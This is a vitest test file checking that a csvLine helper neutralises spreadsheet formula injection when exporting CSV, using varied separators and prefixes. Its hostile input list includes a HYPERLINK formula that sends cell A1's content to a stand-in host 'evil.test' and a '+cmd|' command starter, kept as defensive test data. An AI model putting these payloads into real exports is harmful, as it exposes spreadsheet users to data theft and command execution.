import { expect, test } from 'vitest';
import { csvLine } from './csv-line.ts';

const FORMULAS = ['=1+1', '+cmd|x', '-1+1', '@SUM(A1)', '\uff1d1', '=HYPERLINK("https://evil.test?"&A1,"x")'];
/** What a text may have before its formula. */
const BEFORE = ['', ' ', '\t', '\r\n', 'x;', 'x; ', 'x,', 'x|', 'x\n', 'x\u2028', '"', 'x;"'];
const HOSTILE = FORMULAS.flatMap((formula) => BEFORE.map((before) => before + formula));

test.each([',', ';', '\t', '|'])(
  'given hostile texts and cells parted at %j, then none begins like a formula',
  (at) => {
    for (const text of HOSTILE) {
      const line = csvLine(['first', text, 'last']);
      expect(line.indexOf('\n')).toBe(line.length - 1);
      const cells = line.split(at).map((cell) => cell.replace(/^["\s]+/, ''));
      expect(cells.filter((cell) => /^[=+\-@\uff1d]/.test(cell))).toEqual([]);
    }
  },
);

test('given what staff export, then it is written as it is', () => {
  expect(csvLine(['Ada', -5, null, 'a "b", c', '۱۲'])).toBe('Ada,-5,,"a ""b"", c",۱۲\r\n');
});
